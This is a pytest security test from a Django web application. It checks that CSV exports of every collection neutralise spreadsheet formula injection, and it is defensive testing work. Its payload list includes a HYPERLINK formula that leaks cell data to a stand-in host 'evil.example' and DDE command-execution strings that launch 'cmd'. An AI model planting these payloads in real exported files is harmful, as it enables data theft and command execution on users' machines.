"""A cell that a spreadsheet would run as a formula is exported as text, of every collection and every text in it."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

import initiatives.api.urls  # noqa: F401  (it registers the collections)
from initiatives.api.examples import EXAMPLES
from tests.admin.rows import ROWS
from tests.api.client import ApiClient
from tests.security.test_stored_scripts import infect
from tracker.api import collections

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", " =1+1",
]  # fmt: skip
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_as_a_formula_does(curator: ApiClient, formula: str) -> None:
    reached = 0
    for collection in EXAMPLES:
        model: Any = collections.model_named(collection)
        row: Any = ROWS[model]()
        reached += len(infect(row, formula))
        answer = curator.read(f"{collection}/", format="csv")
        table = b"".join(answer.streaming_content).decode().removeprefix("\ufeff")
        for line in csv.reader(io.StringIO(table, newline="")):
            for cell in line:
                assert not cell.startswith(RUNS) or cell.lstrip("-").replace(".", "").isdigit(), (collection, cell)
    assert reached > len(EXAMPLES)
